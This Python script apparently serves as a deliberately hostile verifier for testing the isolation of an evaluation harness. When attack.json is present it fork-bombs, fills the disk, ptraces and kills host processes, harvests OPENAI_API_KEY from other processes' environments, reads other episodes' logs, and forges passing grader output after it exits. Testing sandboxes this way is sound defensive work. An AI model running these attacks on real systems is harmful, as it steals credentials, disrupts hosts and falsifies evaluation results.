"""A verifier that behaves in every replay, and attacks where the end state holds attack.json.

    python verify.py ROOT

attack.json names the attack and what it is to aim at. An attack returns what it achieved in words, or
nothing; that the words are true is checked from outside as well.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

ROOT = Path(sys.argv[1]).absolute()
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
LIBC = ctypes.CDLL(None, use_errno=True)


def attempt(action: Callable[[], object]) -> bool:
    """Whether an action went through."""
    try:
        action()
    except (OSError, ValueError):
        return False
    return True


def write_state(order: dict[str, Any]) -> str:
    note = ROOT / "note.txt"
    places = [note, Path("/proc/self/root", *note.parts[1:])]
    tries: dict[str, Callable[[], object]] = {
        "appended": lambda: [place.open("a").write("x") for place in places],
        "created": lambda: (ROOT / "made").write_text("x"),
        "made writable": lambda: note.chmod(0o666),
        "renamed": lambda: note.rename(ROOT / "other.txt"),
        "removed": (ROOT / "attack.json").unlink,
    }
    return ", ".join(name for name, action in tries.items() if attempt(action))


def read_episode(order: dict[str, Any]) -> str:
    secret = Path(order["other_episode"])
    processes = [p for p in Path("/proc").iterdir() if p.name.isdigit()]
    places = [secret, *(p / "root" / secret.relative_to("/") for p in processes)]
    places += [p / "cwd" / secret.relative_to("/") for p in processes]
    places += [Path(*[".."] * 20, secret.relative_to("/")), *beside()]
    return next((text for place in places if (text := content(place))), "")


def beside() -> Iterator[Path]:
    """Files of other episodes below the folders that this one is in."""
    for folder in ROOT.parents:
        if len(folder.parts) > 2:
            yield from folder.glob("*/*/actions.jsonl")
            yield from folder.glob("*/actions.jsonl")


def content(path: Path) -> str:
    try:
        return path.read_text(errors="replace")[:200] if path.is_file() else ""
    except OSError:
        return ""


def open_socket(order: dict[str, Any]) -> str:
    tries: dict[str, tuple[int, Any]] = {
        "loopback": (socket.AF_INET, ("127.0.0.1", order["port"])),
        "abstract": (socket.AF_UNIX, "\0" + order["abstract"]),
        "file": (socket.AF_UNIX, order["socket"]),
    }
    done = []
    for name, (family, address) in tries.items():
        with socket.socket(family, socket.SOCK_STREAM) as channel:
            channel.settimeout(2)
            if attempt(lambda channel=channel, address=address: channel.connect(address)):  # type: ignore[misc]
                done.append(name)
    return ", ".join(done)


def ptrace(order: dict[str, Any]) -> str:
    done = []
    for pid in {order["victim"], *others()}:
        if LIBC.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            done.append(f"traced {name_of(pid)}")
            LIBC.ptrace(PTRACE_DETACH, pid, None, None)
        if attempt(lambda pid=pid: open(f"/proc/{pid}/mem", "r+b").close()):  # type: ignore[misc]
            done.append(f"opened the memory of {name_of(pid)}")
    return ", ".join(done)


def others() -> list[int]:
    """The parent, and whoever else shares this process's view where that view is a small one."""
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [p for p in {os.getppid(), *(seen if len(seen) < 5 else [])} if p not in {0, os.getpid()}]


def name_of(pid: int) -> str:
    return content(Path(f"/proc/{pid}/comm")).strip() or str(pid)


def fork_bomb(order: dict[str, Any]) -> str:
    made = 0
    try:
        while made < order["forks"]:
            if os.fork() == 0:
                signal.pause()
            made += 1
    except OSError:
        return ""
    return f"{made} processes"


def write_10_gb(order: dict[str, Any]) -> str:
    wanted = order["bytes"]
    folders = {"/tmp", "/dev/shm", "/run", "/var/tmp", str(Path.home()), os.getcwd(), str(ROOT)}
    for folder in sorted(folders):
        path = Path(folder, f"big-{os.getpid()}")
        if attempt(lambda path=path: sparse(path, 10 << 30)):  # type: ignore[misc]
            return f"a sparse file in {folder}"
    total, made = 0, []
    try:
        for folder in sorted(folders):
            for number in range(64):
                made.append(Path(folder, f"big-{os.getpid()}-{number}"))
                total += fill(made[-1], min(1 << 28, wanted - total))
                if total >= wanted:
                    return f"{total} bytes"
                if not made[-1].exists() or made[-1].stat().st_blocks == 0:
                    break
    finally:
        for path in made:
            attempt(path.unlink)
    return ""


def sparse(path: Path, size: int) -> None:
    try:
        with path.open("wb") as handle:
            handle.truncate(size)
    finally:
        attempt(path.unlink)


def fill(path: Path, size: int) -> int:
    """Bytes of a new file that the disk really gave."""
    try:
        with path.open("wb") as handle:
            for start in range(0, size, 1 << 24):
                if not attempt(lambda start=start: os.posix_fallocate(handle.fileno(), start, 1 << 24)):  # type: ignore[misc]
                    return start
    except OSError:
        return 0
    return size


def signal_parent(order: dict[str, Any]) -> str:
    done = []
    if attempt(lambda: os.kill(order["victim"], signal.SIGKILL)):
        done.append("killed a process of the host")
    parent = os.getppid()
    if parent == 1:
        os.kill(1, signal.SIGKILL)  # of this namespace: the kernel keeps its first process from it
        time.sleep(0.1)
    elif parent and attempt(lambda: os.kill(parent, signal.SIGCONT)):
        done.append(f"signalled {name_of(parent)}")
    return ", ".join(done)


def read_environment(order: dict[str, Any]) -> str:
    texts = [os.environb.get(b"OPENAI_API_KEY", b"")]
    for process in Path("/proc").iterdir():
        if process.name.isdigit():
            attempt(lambda process=process: texts.append((process / "environ").read_bytes()))  # type: ignore[misc]
    keys = {line for text in texts for line in text.split(b"\0") if line.startswith(b"OPENAI_API_KEY=")}
    return ", ".join(sorted(key.decode(errors="replace") for key in keys))


def write_after_exit(order: dict[str, Any]) -> str:
    me = os.getpid()
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.monotonic() + 15
            while time.monotonic() < end and (Path(f"/proc/{me}/stat").exists() and not is_dead(me)):
                time.sleep(0.001)
            time.sleep(order["pause_s"])
            while time.monotonic() < end:
                attempt(lambda: os.write(1, b'{"pass": true, "category": null}\n'))
                time.sleep(0.002)
        os._exit(0)
    os.waitpid(child, 0)  # the grandchild is in a session of its own by now
    return ""


def is_dead(pid: int) -> bool:
    return content(Path(f"/proc/{pid}/stat")).rpartition(")")[2].split()[:1] in ([], ["Z"], ["X"])


def symlink_out(order: dict[str, Any]) -> str:
    places = (ROOT / "absolute", ROOT / "relative", ROOT / "folder" / "actions.jsonl", ROOT / "hard")
    return next((text for place in places if (text := content(place))), "")


ATTACKS = {
    one.__name__: one
    for one in (
        *(write_state, read_episode, open_socket, ptrace, fork_bomb),
        *(write_10_gb, signal_parent, read_environment, write_after_exit, symlink_out),
    )
}


def main() -> None:
    order = ROOT / "attack.json"
    seen: dict[str, Any] = {"found": content(ROOT / "note.txt")}
    passed = seen["found"] == "4500"
    if order.is_file():
        asked = json.loads(order.read_text())
        seen = {"attack": asked["attack"], "achieved": ATTACKS[asked["attack"]](asked)}
    category = None if passed else ["F-ABORT", "F-CLAIM"]
    print(json.dumps({"pass": passed, "category": category, "diagnostics": seen}), flush=True)
    os._exit(0)


main()
